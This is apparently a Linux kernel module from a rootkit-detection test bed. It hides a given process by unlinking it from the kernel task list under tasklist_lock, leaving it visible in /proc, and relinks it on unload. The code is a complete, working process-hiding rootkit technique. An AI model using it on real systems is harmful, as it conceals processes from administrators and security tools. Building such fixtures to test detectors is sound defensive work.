// SPDX-License-Identifier: GPL-2.0
/*
 * hide_task: a rootkit fixture that hides a process from the task list. It
 * unlinks the thread group leader with the given pid from the list threaded
 * through task_struct.tasks (what for_each_process and a task-list walk from
 * init_task follow) and leaves it in its pid namespace's IDR, so /proc still
 * shows it and it keeps running, but a task-list walk does not see it.
 *
 * Parameters:
 *   pid=            the process to hide (a thread group leader, in the initial
 *                   pid namespace)
 *   tasklist_lock=  address of tasklist_lock (not exported; the test reads it
 *                   from /proc/kallsyms). Writers of the task list hold it for
 *                   writing; readers use RCU or hold it for reading.
 *
 * Unlinking, in two steps: list_del_rcu under the lock (readers standing on
 * the task still find their way on), then, after an RCU grace period, the
 * entry is made a singleton (as list_del_init would) under the lock again, so
 * the task's own exit (__unhash_process: list_del_rcu on it) does not touch
 * the list nor trip CONFIG_DEBUG_LIST's checks. Precondition: the task does
 * not exit during that grace period (the bed's victim sleeps).
 *
 * On unload the task goes back at the tail of the list if it is still alive.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include "fixture.h"

static int pid = -1;
module_param(pid, int, 0400);
MODULE_PARM_DESC(pid, "pid of the process to hide");
/* tasklist_lock names the kernel's lock (declared in sched/task.h), hence _named. */
static unsigned long tasklist_lock_addr;
module_param_named(tasklist_lock, tasklist_lock_addr, ulong, 0400);
MODULE_PARM_DESC(tasklist_lock, "address of tasklist_lock from /proc/kallsyms");

static struct task_struct *hidden;

static int __init hide_task_init(void)
{
	rwlock_t *lock = (rwlock_t *)tasklist_lock_addr;
	struct pid *found;
	int err = fixture_check_symbol(tasklist_lock_addr, "tasklist_lock", NULL);

	if (err)
		return err;
	found = find_get_pid(pid);
	hidden = found ? get_pid_task(found, PIDTYPE_PID) : NULL;
	put_pid(found);
	if (!hidden) {
		pr_err("hide_task: no process with pid %d\n", pid);
		return -ESRCH;
	}
	write_lock_irq(lock);
	if (!thread_group_leader(hidden) || hidden->exit_state || list_empty(&hidden->tasks)) {
		write_unlock_irq(lock);
		pr_err("hide_task: pid %d (%s) is not a live thread group leader on the task list\n",
		       pid, hidden->comm);
		put_task_struct(hidden);
		return -EINVAL;
	}
	list_del_rcu(&hidden->tasks);
	write_unlock_irq(lock);

	synchronize_rcu();

	write_lock_irq(lock);
	INIT_LIST_HEAD(&hidden->tasks);
	write_unlock_irq(lock);
	pr_info("hide_task: unlinked pid %d (%s, task_struct at %px) from the task list; it stays in its pid namespace\n",
		pid, hidden->comm, hidden);
	return 0;
}

static void __exit hide_task_exit(void)
{
	rwlock_t *lock = (rwlock_t *)tasklist_lock_addr;
	bool relinked = false;

	write_lock_irq(lock);
	/* pid_alive: not yet unhashed by its exit (which would have left the entry alone). */
	if (pid_alive(hidden) && list_empty(&hidden->tasks)) {
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
		relinked = true;
	}
	write_unlock_irq(lock);
	if (relinked)
		pr_info("hide_task: linked pid %d (%s) back at the tail of the task list\n", pid,
			hidden->comm);
	else
		pr_info("hide_task: pid %d exited while hidden; nothing to link back\n", pid);
	put_task_struct(hidden);
}
module_init(hide_task_init);
module_exit(hide_task_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Rootkit fixture: unlinks a process from the task list, leaving it in /proc");
